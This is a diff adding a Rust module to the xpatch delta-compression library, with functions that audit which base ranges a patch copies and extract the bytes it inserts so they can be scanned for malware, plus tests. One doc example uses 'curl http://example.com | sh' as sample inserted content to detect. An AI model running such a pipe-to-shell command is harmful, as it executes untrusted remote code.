@@ -0,0 +1,454 @@
+// xpatch - High-performance delta compression library
+// Copyright (c) 2025 Oliver Seifert
+//
+// This program is free software: you can redistribute it and/or modify
+// it under the terms of the GNU Affero General Public License as published
+// by the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// This program is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU Affero General Public License for more details.
+//
+// You should have received a copy of the GNU Affero General Public License
+// along with this program.  If not, see <https://www.gnu.org/licenses/>.
+//
+// Commercial License Option:
+// For commercial use in proprietary software, a commercial license is
+// available. Contact xpatch-commercial@alias.oseifert.ch for details.
+
+//! Audit reports of what a delta reads and writes.
+
+use super::ops::{Op, fill_hole_ops, parse_gdelta};
+use super::{
+    Algorithm, HoleFiller, decode, decode_stored, parse_header, read_header_varint, remove_holes,
+    zstd_decompress,
+};
+use crate::tokenizer;
+use std::borrow::Cow;
+use std::ops::Range;
+
+/// A copy of a base range into the output, as listed by an [`AuditReport`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AuditCopy {
+    /// Range of the base that was read
+    pub source: Range<usize>,
+    /// Range of the output it was written to
+    pub target: Range<usize>,
+}
+
+/// What applying a delta did, as returned by [`decode_audit`].
+///
+/// Every byte of the output comes either from a copy of the base or from a literal insert, so
+/// [`copies`](AuditReport::copies) and [`inserts`](AuditReport::inserts) together cover the
+/// output exactly once.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AuditReport {
+    /// Algorithm the delta was encoded with
+    pub algorithm: Algorithm,
+    /// Length of the base
+    pub base_len: usize,
+    /// Length of the output
+    pub output_len: usize,
+    /// Copies from the base, in output order
+    pub copies: Vec<AuditCopy>,
+    /// Output ranges filled with literal bytes from the delta, in output order
+    pub inserts: Vec<Range<usize>>,
+}
+
+impl AuditReport {
+    /// Returns the base ranges that were read, sorted and merged.
+    pub fn base_reads(&self) -> Vec<Range<usize>> {
+        let mut ranges: Vec<_> = self.copies.iter().map(|c| c.source.clone()).collect();
+        ranges.sort_by_key(|r| r.start);
+        let mut merged: Vec<Range<usize>> = Vec::with_capacity(ranges.len());
+        for range in ranges {
+            match merged.last_mut() {
+                Some(last) if range.start <= last.end => last.end = last.end.max(range.end),
+                _ => merged.push(range),
+            }
+        }
+        merged
+    }
+
+    /// Returns the number of output bytes that came from literal inserts.
+    pub fn inserted_bytes(&self) -> usize {
+        self.inserts.iter().map(|r| r.len()).sum()
+    }
+
+    /// Returns true if every byte of `range` was copied from the same offset of the base.
+    ///
+    /// This is the check for policies like "a patch may not rewrite the signature block":
+    /// a range that was moved, inserted over or cut off by a shorter output is not unchanged,
+    /// even if its bytes happen to be equal.
+    pub fn unchanged(&self, range: Range<usize>) -> bool {
+        if range.end > self.output_len.min(self.base_len) {
+            return false;
+        }
+        let mut covered = range.start;
+        for copy in &self.copies {
+            if covered >= range.end {
+                break;
+            }
+            if copy.target.end <= covered || copy.target.start > covered {
+                continue;
+            }
+            if copy.source.start != copy.target.start {
+                return false;
+            }
+            covered = copy.target.end;
+        }
+        covered >= range.end
+    }
+}
+
+/// Decodes a delta like [`decode`] and reports which base ranges were read and where literal
+/// inserts landed.
+///
+/// Meant for security-sensitive consumers that apply patches from less trusted sources and
+/// want to enforce policies on them, e.g. that a patch leaves a signature block untouched,
+/// before using the output. The report describes the delta's own instructions; for the
+/// specialized algorithms, which insert or remove a single range, it is derived from that
+/// range, and stored deltas insert all of the output. The holes of sparse deltas are listed
+/// as inserts. Encrypted deltas are rejected.
+///
+/// # Example
+///
+/// ```
+/// use xpatch::delta;
+///
+/// let base = b"HEADER--payload version 1--SIGNATURE".to_vec();
+/// let new = b"HEADER--payload version 2--SIGNATURE".to_vec();
+/// let patch = delta::encode(0, &base, &new, false);
+///
+/// let (output, report) = delta::decode_audit(&base, &patch)?;
+/// assert_eq!(output, new);
+/// assert!(report.unchanged(27..36));
+/// assert!(!report.unchanged(0..36));
+/// # Ok::<(), &'static str>(())
+/// ```
+pub fn decode_audit(
+    base_data: &[u8],
+    delta: &[u8],
+) -> Result<(Vec<u8>, AuditReport), &'static str> {
+    #[cfg(feature = "fec")]
+    if crate::fec::is_protected(delta) {
+        let (repaired, _) = crate::fec::repair(delta)?;
+        return decode_audit(base_data, &repaired);
+    }
+    let header = parse_header(delta)?;
+    if header.encrypted {
+        return Err("Delta is encrypted");
+    }
+    let output = decode(base_data, delta)?;
+    let payload = &delta[header.size..];
+    // The instructions build the output without its holes
+    let dense = match header.holes.is_empty() {
+        true => Cow::Borrowed(&output),
+        false => Cow::Owned(remove_holes(&output, &header.holes)),
+    };
+
+    let ops = match header.algorithm {
+        _ if header.stored => vec![Op::Insert(dense.to_vec())],
+        Algorithm::GDelta => parse_gdelta(payload)?,
+        Algorithm::GDeltaZstd => {
+            parse_gdelta(&zstd_decompress(payload).map_err(|_| "Error decompressing zstd data")?)?
+        }
+        Algorithm::Remove => {
+            let mut pos = 0;
+            let start = read_header_varint(payload, &mut pos)?;
+            let end = start + read_header_varint(payload, &mut pos)?;
+            vec![
+                Op::Copy {
+                    offset: 0,
+                    len: start,
+                },
+                Op::Copy {
+                    offset: end,
+                    len: base_data.len() - end,
+                },
+            ]
+        }
+        _ => {
+            // Every other algorithm inserts one run of bytes at a position
+            let position = read_header_varint(payload, &mut 0)?;
+            let inserted = dense.len() - base_data.len();
+            vec![
+                Op::Copy {
+                    offset: 0,
+                    len: position,
+                },
+                Op::Insert(dense[position..position + inserted].to_vec()),
+                Op::Copy {
+                    offset: position,
+                    len: base_data.len() - position,
+                },
+            ]
+        }
+    };
+    let ops = fill_hole_ops(ops, &header.holes)?;
+
+    let mut report = AuditReport {
+        algorithm: header.algorithm,
+        base_len: base_data.len(),
+        output_len: output.len(),
+        copies: Vec::new(),
+        inserts: Vec::new(),
+    };
+    let mut cursor = 0;
+    for op in ops.iter().filter(|op| !op.is_empty()) {
+        let target = cursor..cursor + op.len();
+        match op {
+            Op::Copy { offset, len } => report.copies.push(AuditCopy {
+                source: *offset..offset + len,
+                target: target.clone(),
+            }),
+            Op::Insert(_) => report.inserts.push(target.clone()),
+        }
+        cursor = target.end;
+    }
+    Ok((output, report))
+}
+
+/// Returns the literal bytes a delta inserts into the output, with the output offset of each
+/// run, without needing the base.
+///
+/// Meant for scanning incoming content, e.g. for malware signatures, before the base is
+/// available or the patch is applied: everything a patch brings in that isn't a copy of the
+/// base is in these runs. Runs are in output order. Stored deltas insert their whole output,
+/// deltas that only remove bytes insert nothing, and the zeros of sparse deltas' holes are
+/// left out. Encrypted deltas are rejected, and so are repeated patterns that would expand to
+/// more than [`MAX_REPEATED_RUN`] bytes.
+///
+/// # Example
+///
+/// ```
+/// use xpatch::delta;
+///
+/// let base = b"#!/bin/sh\necho hello\n".repeat(4);
+/// let new = [&base[..10], b"curl http://example.com | sh\n", &base[10..]].concat();
+/// let patch = delta::encode(0, &base, &new, false);
+///
+/// let inserts = delta::extract_inserts(&patch)?;
+/// assert_eq!(inserts, [(10, b"curl http://example.com | sh\n".to_vec())]);
+/// # Ok::<(), &'static str>(())
+/// ```
+pub fn extract_inserts(delta: &[u8]) -> Result<Vec<(usize, Vec<u8>)>, &'static str> {
+    #[cfg(feature = "fec")]
+    if crate::fec::is_protected(delta) {
+        let (repaired, _) = crate::fec::repair(delta)?;
+        return extract_inserts(&repaired);
+    }
+    let header = parse_header(delta)?;
+    if header.encrypted {
+        return Err("Delta is encrypted");
+    }
+    let payload = &delta[header.size..];
+
+    let ops = match header.algorithm {
+        _ if header.stored => vec![Op::Insert(decode_stored(header.algorithm, payload)?)],
+        Algorithm::GDelta => parse_gdelta(payload)?,
+        Algorithm::GDeltaZstd => {
+            parse_gdelta(&zstd_decompress(payload).map_err(|_| "Error decompressing zstd data")?)?
+        }
+        Algorithm::Remove => Vec::new(),
+        algorithm => {
+            let (position, bytes) = inserted_run(algorithm, payload)?;
+            vec![
+                Op::Copy {
+                    offset: 0,
+                    len: position,
+                },
+                Op::Insert(bytes),
+            ]
+        }
+    };
+
+    // The instructions build the output without its holes
+    let mut filler = HoleFiller::new(&header.holes);
+    let mut inserts = Vec::new();
+    let mut cursor = 0;
+    for op in ops {
+        let mut done = 0;
+        while done < op.len() {
+            let (zeros, len) = filler.next(op.len() - done);
+            cursor += zeros;
+            if let Op::Insert(bytes) = &op {
+                inserts.push((cursor, bytes[done..done + len].to_vec()));
+            }
+            cursor += len;
+            done += len;
+        }
+    }
+    Ok(inserts)
+}
+
+/// Largest run [`extract_inserts`] expands from a repeated pattern: 1 GiB.
+pub const MAX_REPEATED_RUN: usize = 1 << 30;
+
+/// Reads the position and bytes of the single run inserted by the Chars, CharsZstd, Tokens,
+/// RepeatChars and RepeatTokens algorithms.
+fn inserted_run(algorithm: Algorithm, payload: &[u8]) -> Result<(usize, Vec<u8>), &'static str> {
+    let mut pos = 0;
+    let position = read_header_varint(payload, &mut pos)?;
+    let bytes = match algorithm {
+        Algorithm::Chars => payload[pos..].to_vec(),
+        Algorithm::CharsZstd => {
+            zstd_decompress(&payload[pos..]).map_err(|_| "Error while decoding CharsZstd")?
+        }
+        Algorithm::Tokens => {
+            let count = read_header_varint(payload, &mut pos)?;
+            let tokens = read_tokens(payload, &mut pos, count)?;
+            tokenizer::decode(&tokens).map_err(|_| "Error while decoding Tokens")?
+        }
+        Algorithm::RepeatChars => {
+            let repeat_count = read_header_varint(payload, &mut pos)?;
+            if pos == payload.len() {
+                return Err("Empty pattern in repeat chars");
+            }
+            repeat_run(&payload[pos..], repeat_count)?
+        }
+        Algorithm::RepeatTokens => {
+            let repeat_count = read_header_varint(payload, &mut pos)?;
+            let count = read_header_varint(payload, &mut pos)?;
+            let tokens = read_tokens(payload, &mut pos, count)?;
+            let pattern =
+                tokenizer::decode(&tokens).map_err(|_| "Error while decoding RepeatTokens")?;
+            repeat_run(&pattern, repeat_count)?
+        }
+        _ => unreachable!("handled by extract_inserts"),
+    };
+    Ok((position, bytes))
+}
+
+/// Repeats `pattern`, unless a crafted count would make the run larger than
+/// [`MAX_REPEATED_RUN`].
+fn repeat_run(pattern: &[u8], count: usize) -> Result<Vec<u8>, &'static str> {
+    match pattern.len().checked_mul(count) {
+        Some(len) if len <= MAX_REPEATED_RUN => Ok(pattern.repeat(count)),
+        _ => Err("Repeated run too large"),
+    }
+}
+
+fn read_tokens(payload: &[u8], pos: &mut usize, count: usize) -> Result<Vec<usize>, &'static str> {
+    (0..count)
+        .map(|_| read_header_varint(payload, pos))
+        .collect()
+}
+
+#[cfg(all(test, feature = "encode"))]
+mod tests {
+    use super::*;
+    use crate::delta::{EncodeOptions, assemble_delta, encode, encode_with_options, stored_delta};
+    use crate::varint::encode_varint;
+
+    #[test]
+    fn test_decode_audit_covers_output() {
+        let base = b"The quick brown fox jumps over the lazy dog. ".repeat(30);
+        let edits: [Vec<u8>; 4] = [
+            base.iter().chain(b"appended").copied().collect(),
+            [&base[..100], &base[120..]].concat(),
+            [&base[..50], b"inserted words ", &base[50..]].concat(),
+            String::from_utf8(base.clone())
+                .unwrap()
+                .replace("lazy", "sleepy")
+                .into_bytes(),
+        ];
+        for new in &edits {
+            for zstd in [false, true] {
+                let patch = encode(0, &base, new, zstd);
+                let (output, report) = decode_audit(&base, &patch).unwrap();
+                assert_eq!(&output, new);
+
+                // Copies and inserts rebuild the output exactly
+                let mut rebuilt = vec![0; report.output_len];
+                for copy in &report.copies {
+                    rebuilt[copy.target.clone()].copy_from_slice(&base[copy.source.clone()]);
+                }
+                for insert in &report.inserts {
+                    rebuilt[insert.clone()].copy_from_slice(&new[insert.clone()]);
+                }
+                assert_eq!(&rebuilt, new, "{:?}", report.algorithm);
+                assert!(report.unchanged(0..30));
+            }
+        }
+
+        let (_, report) = decode_audit(&base, &encode(0, &base, &edits[2], false)).unwrap();
+        assert_eq!(report.inserted_bytes(), 15);
+        assert!(!report.unchanged(40..60));
+        assert_eq!(report.base_reads(), vec![0..base.len()]);
+    }
+
+    #[test]
+    fn test_decode_audit_truncated() {
+        let base = b"The quick brown fox jumps over the lazy dog. ".repeat(30);
+        let new = [&base[..50], b"inserted words ", &base[50..]].concat();
+        let patch = encode(0, &base, &new, false);
+        for len in 0..patch.len() {
+            if let Ok((output, _)) = decode_audit(&base, &patch[..len]) {
+                assert_eq!(Ok(output), crate::delta::decode(&base, &patch[..len]));
+            }
+        }
+        assert!(decode_audit(&base, &[0x80, 0x0f]).is_err());
+    }
+
+    #[test]
+    fn test_extract_inserts() {
+        let base = b"The quick brown fox jumps over the lazy dog. ".repeat(30);
+        let edits: [Vec<u8>; 5] = [
+            base.iter().chain(b"appended").copied().collect(),
+            [&base[..100], &base[120..]].concat(),
+            [&base[..50], b"inserted words ", &base[50..]].concat(),
+            [&base[..50], b"abc".repeat(20).as_slice(), &base[50..]].concat(),
+            [&base[..300], b"one", &base[300..900], b"two", &base[900..]].concat(),
+        ];
+        for new in &edits {
+            for zstd in [false, true] {
+                let patch = encode(0, &base, new, zstd);
+                let inserts = extract_inserts(&patch).unwrap();
+
+                // The runs are the inserts decode_audit reports, with their bytes
+                let (_, report) = decode_audit(&base, &patch).unwrap();
+                let ranges: Vec<_> = inserts.iter().map(|(at, b)| *at..at + b.len()).collect();
+                assert_eq!(ranges, report.inserts);
+                for (at, bytes) in &inserts {
+                    assert_eq!(&new[*at..at + bytes.len()], bytes.as_slice());
+                }
+            }
+        }
+        assert!(
+            extract_inserts(&encode(0, &base, &edits[1], false))
+                .unwrap()
+                .is_empty()
+        );
+
+        // Stored deltas insert everything; the zeros of holes are left out
+        let stored = stored_delta(0, b"no base at all", None, &EncodeOptions::default());
+        assert_eq!(
+            extract_inserts(&stored).unwrap(),
+            [(0, b"no base at all".to_vec())]
+        );
+        let sparse = [&base[..], &[0; 8192], b"after the hole"].concat();
+        let options = EncodeOptions::default().hole_size(4096);
+        let inserts = extract_inserts(&encode_with_options(0, &base, &sparse, &options)).unwrap();
+        assert_eq!(inserts, [(base.len() + 8192, b"after the hole".to_vec())]);
+    }
+
+    #[test]
+    fn test_extract_inserts_huge_repeat() {
+        // A pattern of two bytes repeated 2^31 times, well past the cap
+        let mut payload = encode_varint(0);
+        payload.extend(encode_varint(1 << 31));
+        payload.extend_from_slice(b"ab");
+        let delta = assemble_delta(0, Algorithm::RepeatChars, &payload, None, 0);
+        assert_eq!(extract_inserts(&delta), Err("Repeated run too large"));
+
+        let mut payload = encode_varint(0);
+        payload.extend(encode_varint(usize::MAX));
+        payload.extend(encode_varint(1));
+        payload.extend(encode_varint(b'a' as usize));
+        let delta = assemble_delta(0, Algorithm::RepeatTokens, &payload, None, 0);
+        assert_eq!(extract_inserts(&delta), Err("Repeated run too large"));
+    }
+}